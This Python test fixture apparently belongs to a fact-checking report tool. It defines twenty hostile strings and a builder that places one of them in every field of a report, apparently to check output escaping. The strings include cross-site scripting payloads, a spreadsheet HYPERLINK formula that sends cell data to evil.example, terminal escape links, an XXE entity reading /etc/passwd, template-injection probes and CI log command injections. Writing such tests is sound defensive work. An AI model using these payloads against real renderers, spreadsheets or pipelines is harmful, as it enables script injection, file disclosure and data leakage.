"""Twenty strings as strangers write them, and a report in which one of them stands wherever a stranger's text can."""

from urllib.parse import quote

from builders import FETCHED, PUBLISHED, make_claim, make_document, make_evidence, make_report, make_verdict

from verify.model import (
    Article,
    Flag,
    Location,
    Part,
    PartKind,
    PartOutcome,
    PartResult,
    PartVerdict,
    Rating,
    Report,
    Source,
    Standing,
    Trace,
    VerdictLabel,
)
from verify.text import Bilingual, Span

STRINGS = {
    "script": "<script>alert(1)</script>",
    "style": "</style><style>*{display:none}</style><img src=x onerror=alert(1)>",
    "right to left": "\u202egnp.exe\u2066\u200f",
    "nul": "a\x00b\x08c",
    "long word": "w" * 100_000,
    "end of cdata": "]]>",
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "escape": "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x9b2J",
    "notify": "@here @channel <!channel> @octocat",
    "command": "::error::a ::set-output name=x::y ##[error]z :::warning:::",
    "cdata": "<![CDATA[<b>x</b>]]>",
    "percent": "%0A::error::x%0D%25",
    "byte order mark": "\ufeffa\ufeff=1+1",
    "half a pair": "\ud800x\udfff",
    "javascript": "javascript:alert(1) data:text/html,<script>1</script>",
    "picture": "![x](https://evil.example/pixel) [click](javascript:alert(1)) ](1)",
    "task": "first\n- [ ] a task\n# heading\n\n    code\n```\nfence",
    "template": "{{ 7*7 }} {% raw %} ${7*7} {0} #{x}",
    "entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;&lt;&#0;&#x1b;',
    "line separators": 'a\u2028b\u2029c\x85d\r\n=1+1,\r"x"',
}


def hostile_report(text: str) -> Report:
    """The string as title, claim, quotation, reason, publisher, address, header, setting and passage."""
    both = Bilingual(text, text)
    source = Source("bad", text, f"https://bad.example/{text}", publisher=text, lang=text, line=text)
    trace = Trace("https://bad.example/a", f"https://bad.example/?{text}", (), 200, FETCHED, text)
    page = make_document(source, text, f"before {text} after", encoding=text, media_type=text, trace=trace)
    labels = [*VerdictLabel] * 2
    rating = Rating(f"by {text}", text, text, FETCHED.date(), f"https://desk.example/{quote(text, errors='replace')}")
    claims = [
        make_claim(f"c{n}", text, "bad", quote=text, note=text, location=Location(text, 3, 5), rating=rating)
        for n in range(len(labels))
    ]
    part = PartVerdict(
        Part(PartKind.STATEMENT, text, Span(0, len(text)), None, both),
        Standing.OTHER,
        (PartResult("bad", PartOutcome.MISMATCH, page.passages[1], Span(7, 7 + len(text)), None, both, wording=both),),
    )
    verdicts = tuple(
        make_verdict(claim, label, both, parts=(part,), evidence=(make_evidence(page),), flags=(Flag.SOURCES_DISAGREE,))
        for claim, label in zip(claims, labels, strict=True)
    )
    article = Article(text, "ja", f"https://news.example/{text}", text=f"first {text} last", published=PUBLISHED)
    return make_report((page,), verdicts, article=article, settings=((text, text), ("claims_file", text)))
